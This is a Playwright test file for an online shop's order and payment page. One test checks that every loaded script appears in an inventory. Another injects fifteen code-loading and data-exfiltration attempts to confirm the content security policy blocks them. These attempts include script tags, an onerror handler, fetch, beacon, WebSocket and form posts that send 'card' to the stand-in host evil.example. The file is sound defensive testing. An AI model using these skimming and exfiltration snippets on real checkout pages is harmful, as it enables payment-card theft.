import { execFile } from 'node:child_process';
import path from 'node:path';
import { promisify } from 'node:util';
import { expect, type Page } from '@playwright/test';
import { openOrder } from '../support/order.ts';
import { approveButton, choose, paymentOf } from '../support/shop.ts';
import { test } from '../support/test.ts';

const root = path.resolve(import.meta.dirname, '../../..');

/** The operator's command against this shop. Resolves with what it says, and rejects when it finds anything. */
async function paymentPages(origin: string, ...args: string[]): Promise<string> {
  const { stdout } = await promisify(execFile)(
    process.execPath,
    ['--import', 'tsx', 'infra/edge/src/payment-pages/cli.ts', ...args],
    {
      cwd: root,
      env: {
        ...process.env,
        PORT: new URL(origin).port,
        DATA_DIR: process.env.SHOP_DATA_DIR ?? path.join(root, '.data'),
      },
    },
  );
  return stdout;
}

interface Inventory {
  scripts: { address: string }[];
}

/** Scripts that the page's own documents asked for; those of the provider's frame are the provider's. */
function scriptsOf(page: Page): string[] {
  const asked: string[] = [];
  page.on('request', (request) => {
    if (request.resourceType() === 'script' && request.frame() === page.mainFrame())
      asked.push(request.url().split('?')[0] ?? '');
  });
  return asked;
}

test('what the order page runs, up to the paid order, is in the inventory, and the check agrees', async ({
  page,
  request,
}) => {
  const baseURL = test.info().project.use.baseURL ?? '';
  const [inventory] = JSON.parse(await paymentPages(baseURL, 'inventory', '--json')) as Inventory[];
  await openOrder(page, request, 23);
  const asked = scriptsOf(page);
  await page.reload();
  await expect(page.getByText(/^\(\d{5}\) /).first()).toBeVisible();
  await choose(page.getByRole('checkbox', { name: /결제 진행에 동의/ }));
  await page.getByRole('button', { name: /결제하기/ }).click();
  await expect(approveButton(paymentOf(page, false))).toBeVisible();
  const known = new Set(inventory?.scripts.map(({ address }) => new URL(address, baseURL).href));
  expect(asked.length).toBeGreaterThan(3);
  expect(asked.filter((address) => !known.has(address))).toEqual([]);

  await paymentPages(baseURL, 'approve', '--by', 'payment team', '--why', 'the stand-in of this test');
  expect(await paymentPages(baseURL, 'check')).toContain('headers and scripts are those of the inventory');
});

test('code that got into the order page loads nothing from elsewhere and sends nothing out', async ({
  page,
  request,
}) => {
  await openOrder(page, request, 24);
  const left: string[] = [];
  await page.context().route(/evil\.example/, (route) => {
    left.push(route.request().url());
    return route.abort();
  });
  const remote = await page.evaluate(
    () =>
      JSON.parse(document.querySelector('#page-state')?.textContent ?? '{}').release.remotes['mf-live'] as {
        candidates: unknown[];
      },
  );
  // The page does not even learn where other remotes lie.
  expect(remote.candidates).toEqual([]);
  // A browser's debugger lets code from text through while it evaluates: this runs once it has left.
  await page.evaluate(() => {
    setTimeout(() => {
      try {
        new Function('window.stolen = 1')();
      } catch (error) {
        document.body.dataset.refused = error instanceof Error ? error.name : 'thrown';
      }
    }, 100);
  });
  await expect(page.locator('body')).toHaveAttribute('data-refused', 'EvalError');
  const outcomes = await page.evaluate(async () => {
    const evil = 'https://evil.example/x';
    const blocked: string[] = [];
    document.addEventListener('securitypolicyviolation', (event) => blocked.push(event.effectiveDirective));
    const attempts: Record<string, () => unknown> = {
      'a script of another origin': () => {
        document.head.append(Object.assign(document.createElement('script'), { src: `${evil}.js` }));
      },
      "another remote's script": () => {
        document.head.append(
          Object.assign(document.createElement('script'), { src: '/_assets/mf-live/1.0.0/remoteEntry.js' }),
        );
      },
      'an inline script': () => {
        document.head.append(Object.assign(document.createElement('script'), { text: 'window.stolen = 1' }));
      },
      'a handler': () => {
        const image = document.createElement('img');
        image.setAttribute('onerror', 'window.stolen = 1');
        document.body.append(image);
      },
      'a call': () => fetch(evil, { method: 'POST', body: 'card' }),
      'a beacon': () => {
        if (!navigator.sendBeacon(evil, 'card')) throw new Error('refused');
      },
      'a socket': () => new WebSocket('wss://evil.example/x'),
      'a stream': () => new EventSource(evil),
      'a picture': () => {
        document.body.append(Object.assign(new Image(), { src: `${evil}.png` }));
      },
      'a style': () => {
        document.body.style.backgroundImage = `url(${evil}.png)`;
      },
      'a frame': () => {
        document.body.append(Object.assign(document.createElement('iframe'), { src: evil }));
      },
      'a form': () => {
        const form = Object.assign(document.createElement('form'), { action: evil, method: 'post' });
        document.body.append(form);
        form.submit();
      },
      'a base': () => {
        document.head.append(Object.assign(document.createElement('base'), { href: evil }));
        return document.baseURI.includes('evil') ? undefined : Promise.reject(new Error('refused'));
      },
      'a worker': () => new Worker(`${evil}.js`),
      'a service worker': () => navigator.serviceWorker.register('/_assets/mf-live/1.0.0/remoteEntry.js'),
    };
    const result: Record<string, string> = {};
    for (const [name, attempt] of Object.entries(attempts)) {
      const before = blocked.length;
      try {
        await attempt();
        await new Promise((resolve) => setTimeout(resolve, 150));
        result[name] = blocked.length > before ? 'blocked' : 'done';
      } catch {
        result[name] = 'blocked';
      }
    }
    return result;
  });
  expect(Object.entries(outcomes).filter(([, outcome]) => outcome !== 'blocked')).toEqual([]);
  expect(Object.keys(outcomes)).toHaveLength(15);
  expect(await page.evaluate(() => 'stolen' in window)).toBe(false);
  expect(left).toEqual([]);
});
